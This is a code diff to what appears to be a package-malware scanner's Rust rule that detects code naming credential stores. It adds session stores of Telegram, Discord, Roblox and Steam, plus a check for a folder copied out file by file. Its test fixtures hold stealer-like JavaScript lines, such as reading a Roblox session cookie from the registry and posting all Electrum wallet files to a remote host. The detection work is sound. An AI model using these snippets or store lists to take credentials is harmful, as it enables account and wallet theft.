@@ -7,11 +7,15 @@ use crate::rules::{Emitter, all_text, code_files, is_doc_path};
 crate::declare_rule! {
     /// The code names files that hold credentials: SSH keys, cloud credentials (.aws, gcloud,
     /// .kube, .azure), .git-credentials, .netrc, .docker/config.json, browser profiles (Login
-    /// Data, Local State, leveldb stores), wallet files and extension stores, the macOS keychain,
+    /// Data, Local State, leveldb stores, `.binarycookies` jars), the session stores of desktop
+    /// messengers and games (Telegram `tdata`, Discord's Local Storage, Roblox Studio's session
+    /// cookie, Steam's `loginusers.vdf`), wallet files and extension stores, the macOS keychain,
     /// another process's memory. `.npmrc` alone is `medium` (package tools read it), `info` in a
     /// file that runs `npm publish` outside install steps (a release command configuring the npm
     /// CLI, whose publishing `npm-publish` reports); several
-    /// kinds together are a stealer's shopping list (`critical`), and so is reading another
+    /// kinds together are a stealer's shopping list (`critical`), and so is a store walked and
+    /// read file by file in a file that uses the network (a directory copied out whole), and
+    /// reading another
     /// process's memory through `/proc/PID/mem` (CI runner secret scraping), or picking the
     /// Actions runner's in-memory secret entries (`"value":…,"isSecret":true`) out of a dump, or
     /// looking for the runner's `Runner.Worker` process. `.ssh` counts as a
@@ -36,7 +40,12 @@ crate::declare_rule! {
            "const dump = cp.execSync('sudo python3 memdump.py'); const hits = String(dump).match(/\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}/g)",
            "const pid = require('child_process').execSync('pgrep -f Runner.Worker').toString().trim()",
            "const found = String(out).match(new RegExp('\"[^\"]{1,64}\":\\\\{\"value\":\"[^\"]*\",\"isSecret\":true\\\\}', 'g'))",
-           "const parts = ['ssh', 'known_hosts']; const dir = path.join(os.homedir(), '.' + parts[0]); fs.readdirSync(dir)"],
+           "const parts = ['ssh', 'known_hosts']; const dir = path.join(os.homedir(), '.' + parts[0]); fs.readdirSync(dir)",
+           "const out = cp.execSync('reg query \"HKCU\\\\Software\\\\Roblox\\\\RobloxStudioBrowser\\\\roblox.com\" /v .ROBLOSECURITY').toString()",
+           "const tg = path.join(appData, 'Telegram Desktop', 'tdata'); fs.readdirSync(tg)",
+           "const d = path.join(base, 'discordptb', 'Local Storage', 'leveldb')",
+           "const jar = path.join(os.homedir(), 'Library/HTTPStorages/com.Roblox.RobloxPlayer.binarycookies')",
+           "const w = path.join(os.homedir(), '.electrum', 'wallets'); const out = {}; for (const n of fs.readdirSync(w)) out[n] = fs.readFileSync(path.join(w, n), 'base64'); https.request({ host: h, method: 'POST' }).end(JSON.stringify(out))"],
     pass: ["// see man sshd: authorized_keys\nfs.writeFileSync(path.join(dir, 'known.json'), '{}')",
            // psl 1.15.0: the public suffix list names domains under the .aws TLD
            "module.exports = [\"s3-website.us-west-2.amazonaws.com\", \"labeling.ap-south-1.sagemaker.aws\", \"ngrok.io\"]",
@@ -48,7 +57,10 @@ crate::declare_rule! {
            "=== index.js\nconst data = require('./data.json');\nconst k = Buffer.from(data[0].id + data[1].id);\nconst x = (h) => Buffer.from(h, 'hex').map((b, i) => b ^ k[i % k.length]).toString();\nrequire('child_process').execFileSync('python3', ['-c', x('2c713f38242c6d736e313e3f2b6e656e2428256777672c2728736d663e326f68')]);\n=== data.json\n[{ \"id\": \"GAMMA\" }, { \"id\": \"DELTA\" }]\n",
            "// The runner's worker logs go to _diag/Worker_*.log\nconst logs = path.join(runnerRoot, '_diag')",
            "const fields = [{ name: 'apiKey', value: '', isSecret: true }, { name: 'region', value: 'eu', isSecret: false }]",
-           "const ext = '.' + 'sshx'; const f = name + ext"],
+           "const ext = '.' + 'sshx'; const f = name + ext",
+           // a Roblox API client sends the cookie its user gives it
+           "headers.cookie = `.ROBLOSECURITY=${cookie}`; https.get({ host: 'users.roblox.com', headers })",
+           "const store = path.join(app.getPath('userData'), 'Local Storage')"],
 }
 
 /// (label, pattern) of credential stores.
@@ -75,11 +87,18 @@ const TARGETS: &[(&str, &str)] = &[
     ("docker credentials", r"\.docker[/\\]config\.json"),
     (
         "browser profiles",
-        r"(?i)Login Data['\x22`]|Local Extension Settings|Local Storage[/\\]+leveldb|User Data[/\\]+Default|User Data['\x22`]",
+        r"(?i)Login Data['\x22`]|Local Extension Settings|Local Storage[/\\]+leveldb|Local Storage['\x22`]\s*,\s*['\x22`]leveldb\b|User Data[/\\]+Default|User Data['\x22`]|\.binarycookies\b",
+    ),
+    (
+        // The session stores of desktop messengers and games, as a path or as the pieces of a
+        // `path.join`: Telegram's `tdata`, Discord's Local Storage, the Roblox session cookie
+        // kept by Roblox Studio (registry key or cookie file), Steam's login files.
+        "app sessions",
+        r"(?i)Telegram Desktop(['\x22`]\s*,\s*['\x22`]|[/\\]+)tdata\b|\bdiscord(canary|ptb)?(['\x22`]\s*,\s*['\x22`]|[/\\]+)Local Storage\b|RobloxStudioBrowser|com\.roblox\.[\w.]*cookies|loginusers\.vdf",
     ),
     (
         "wallets",
-        r"(?i)exodus\.wallet|wallet\.dat|\.config[/\\]solana[/\\]id\.json|keystore[/\\]|electrum[/\\]wallets|nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa",
+        r"(?i)exodus\.wallet|wallet\.dat|\.config[/\\]solana[/\\]id\.json|keystore[/\\]|electrum(['\x22`]\s*,\s*['\x22`]|[/\\])wallets|nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa",
     ),
     ("keychain", r"login\.keychain"),
     (
@@ -159,6 +178,38 @@ fn names_only(f: &crate::package::FileCtx) -> bool {
                 || c.path.contains("writeFile")
         })
     })
+}
+
+/// How far (in bytes) after a directory listing a file read still belongs to the walk.
+const WALK_WINDOW: u32 = 1_500;
+
+/// Whether the file walks directories and reads the files it lists: a read within a few lines
+/// after a listing (`readdirSync(dir)` … `readFileSync(path.join(dir, name))`). Beside a
+/// credential store and network code, that is a store copied out whole. A listing kept to
+/// `.pub` files (a CLI offering the user's public keys, then reading the one picked) is none.
+fn walks_and_reads(f: &crate::package::FileCtx) -> bool {
+    let Some(js) = &f.js else { return false };
+    let method = |p: &str| {
+        p.strip_prefix("fs.promises.")
+            .or_else(|| p.strip_prefix("fs/promises."))
+            .or_else(|| p.strip_prefix("fs."))
+            .map(str::to_string)
+    };
+    let lists: Vec<u32> = js
+        .calls
+        .iter()
+        .filter(|c| {
+            method(&c.path).is_some_and(|m| m.starts_with("readdir") || m.starts_with("opendir"))
+        })
+        .map(|c| c.off)
+        // A folder listed for its public keys only is not copied out (`public_keys_only`).
+        .filter(|&l| !public_keys_only(&f.text, l as usize))
+        .collect();
+    !lists.is_empty()
+        && js.calls.iter().any(|c| {
+            method(&c.path).is_some_and(|m| m.starts_with("readFile") || m == "createReadStream")
+                && lists.iter().any(|&l| l <= c.off && c.off - l < WALK_WINDOW)
+        })
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
@@ -241,7 +292,8 @@ fn check(pkg: &Package, out: &mut Emitter) {
             kinds.push("npm tokens");
         }
         let off = first.filter(|o| *o < f.text.len()).unwrap_or(0) as u32;
-        let sev = if kinds.len() >= 3 && super::has_network(f)
+        let net = super::has_network(f);
+        let sev = if net && (kinds.len() >= 3 || walks_and_reads(f))
             || kinds.contains(&"CI runner secrets")
             || kinds.contains(&"process memory")
                 && crate::regex!(
@@ -360,6 +412,56 @@ mod tests {
         let hits = run(&super::RULE, "cli.js", path);
         assert!(
             hits.iter().any(|h| h.message.contains("ssh keys")),
+            "{hits:?}"
+        );
+    }
+}
+
+#[cfg(test)]
+mod walk_tests {
+    use crate::model::Severity;
+    use crate::rules::testing::run;
+
+    /// A CLI listing `~/.ssh` for `.pub` files and reading the one picked, beside network code
+    /// and other credential names, registers a public key: not a store copied out.
+    #[test]
+    fn a_folder_listed_for_public_keys_then_read_is_no_walk() {
+        let src = "const fs = require('fs/promises'); const c = path.join(os.homedir(), '.aws', 'credentials'); const n = path.join(process.cwd(), '.npmrc');\n\
+            async function keys() { const dir = `${os.homedir()}/.ssh`; const out = []; for (const f of await fs.readdir(dir)) { if (f.endsWith('.pub')) out.push(`${dir}/${f}`) } return out }\n\
+            async function add() { const [k] = await keys(); const pub = await fs.readFile(k, 'utf8'); await fetch('https://api.example/keys', { method: 'POST', body: pub }) }";
+        let hits = run(&super::RULE, "bin/cli.js", src);
+        assert!(
+            hits.iter().all(|h| h.severity < Severity::Critical),
+            "{hits:?}"
+        );
+        let stealer = src.replace("if (f.endsWith('.pub')) ", "");
+        let hits = run(&super::RULE, "bin/cli.js", &stealer);
+        assert!(
+            hits.iter().any(|h| h.severity == Severity::Critical),
+            "{hits:?}"
+        );
+    }
+
+    #[test]
+    fn a_wallet_folder_walked_and_read_beside_network_code_is_critical() {
+        let src = "const fs = require('fs'), https = require('https'); const w = path.join(os.homedir(), '.electrum', 'wallets'); const out = {}; for (const n of fs.readdirSync(w)) out[n] = fs.readFileSync(path.join(w, n), 'base64'); https.request({ host: h, method: 'POST' }).end(JSON.stringify(out))";
+        let hits = run(&super::RULE, "index.js", src);
+        assert!(
+            hits.iter().any(|h| h.severity == Severity::Critical),
+            "{hits:?}"
+        );
+    }
+
+    #[test]
+    fn a_wallet_folder_only_listed_beside_network_code_stays_high() {
+        // A wallet app's helper that counts the wallet files and checks for updates.
+        let pad = ".".repeat(1600);
+        let src = format!(
+            "const fs = require('fs'), https = require('https'); const w = path.join(os.homedir(), '.electrum', 'wallets'); const n = fs.readdirSync(w).length; https.get('https://updates.example.com/v', (r) => r.resume());\n/* {pad} */\nconst cfg = fs.readFileSync(path.join(__dirname, 'config.json'));"
+        );
+        let hits = run(&super::RULE, "index.js", &src);
+        assert!(
+            hits.iter().all(|h| h.severity < Severity::Critical),
             "{hits:?}"
         );
     }
